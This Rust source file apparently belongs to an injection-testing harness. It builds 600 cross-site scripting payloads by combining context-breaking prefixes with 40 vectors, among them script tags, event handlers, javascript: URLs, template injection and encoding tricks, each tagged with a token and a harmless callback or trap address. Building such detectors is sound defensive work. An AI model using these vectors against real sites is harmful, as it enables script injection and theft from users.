//! Six hundred texts that would run a script, ask for something or lead the page away if they ever stood in a page as anything
//! but text: forty ways, each after fifteen ways of ending what it may stand in. Each begins with a token by which it is found.

/// Ends of what a text may stand in.
const BREAKERS: [&str; 15] = [
    "",
    "\">",
    "'>",
    "-->",
    "</script>",
    "</title></style></textarea></noscript>",
    "`>",
    "]]>",
    "*/",
    "');//",
    "\"}]);//",
    "\0",
    "</svg></math>",
    "\u{200b}\u{202e}",
    "\u{2028}\n\r\t",
];
/// `CALL` is a script that tells on itself, `URL` an address that counts who asks for it.
const WAYS: [&str; 40] = [
    "<script>CALL</script>",
    "<script src=URL></script>",
    "<img src=x onerror=CALL>",
    "<img src=URL>",
    "<svg onload=CALL>",
    "<svg><script>CALL</script></svg>",
    "<svg><animate onbegin=CALL attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>CALL</script></svg>#x\">",
    "<iframe srcdoc=\"<script>CALL</script>\">",
    "<iframe src=\"javascript:CALL\">",
    "<a href=\"javascript:CALL\" autofocus onfocus=CALL tabindex=0>x</a>",
    "<object data=URL></object>",
    "<embed src=URL>",
    "<base href=URL>",
    "<meta http-equiv=refresh content=\"0;url=URL\">",
    "<link rel=stylesheet href=URL>",
    "<style>@import 'URL';*{background:url(URL)}</style>",
    "<form action=URL><button autofocus onfocus=CALL>x</form>",
    "<input autofocus onfocus=CALL>",
    "<details open ontoggle=CALL>x</details>",
    "<video src=URL onerror=CALL></video>",
    "<audio src=URL onerror=CALL></audio>",
    "<video><source onerror=CALL></video>",
    "<body onload=CALL>",
    "<marquee onstart=CALL>x</marquee>",
    "<select autofocus onfocus=CALL></select>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=CALL&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=CALL>\">",
    "<template><script>CALL</script></template><script>CALL</script>",
    "{{constructor.constructor('CALL')()}}",
    "${CALL}#{CALL}<%= CALL %>",
    "{@html '<img src=x onerror=CALL>'}",
    "javascript:CALL//",
    "data:text/html,<script>CALL</script>",
    "&lt;img src=x onerror=CALL&gt;&#60;img src=x onerror=CALL&#62;",
    "%3Cimg%20src=x%20onerror=CALL%3E",
    "\\u003cimg src=x onerror=CALL\\u003e\\x3cimg src=x onerror=CALL\\x3e",
    "\u{ff1c}script\u{ff1e}CALL\u{ff1c}/script\u{ff1e}",
    "\u{202e}<img src=x onerror=CALL>\u{202c}\u{2066}<b onclick=CALL>\u{2069}",
    "<img/src=`x`\n\tonerror\n=\0CALL><ScRiPt/x>CALL</sCrIpT\t>",
];
pub const MOST: u64 = (BREAKERS.len() * WAYS.len()) as u64;
/// Without a divisor in common with `MOST`: neighbours differ in both.
const STEP: u64 = 263;
/// For documentation (RFC 5737): it leads nowhere anywhere.
const ELSEWHERE: &str = "192.0.2.7";

#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Payload {
    pub case: u64,
    pub text: String,
}

impl Payload {
    /// `trap` is the port of a server that counts who asks it; every other payload asks a host elsewhere.
    pub fn of(case: u64, trap: u16) -> Self {
        let place = (case * STEP % MOST) as usize;
        let (breaker, way) = (
            BREAKERS[place % BREAKERS.len()],
            WAYS[place / BREAKERS.len()],
        );
        let token = token(case);
        let url = match case % 2 {
            0 => format!("http://127.0.0.1:{trap}/{token}"),
            _ => format!("http://{ELSEWHERE}/{token}"),
        };
        let way = way
            .replace("CALL", &format!("top.kxHit({case})"))
            .replace("URL", &url);
        Self {
            case,
            text: format!("{token}{breaker}{way}"),
        }
    }

    /// As much of it as a partition key takes: 256 characters.
    pub fn key(&self) -> String {
        self.text.chars().take(256).collect()
    }
}

/// By which a payload is found again wherever it is shown.
pub fn token(case: u64) -> String {
    format!("kx{case:05}z")
}

#[test]
fn every_payload_is_another() {
    let all: std::collections::BTreeSet<String> = (0..MOST)
        .map(|case| Payload::of(case, 1).text.replace(&token(case), ""))
        .collect();
    assert_eq!(MOST, 600);
    // those without an address or a number in them differ all the same
    assert_eq!(all.len(), 600);
}
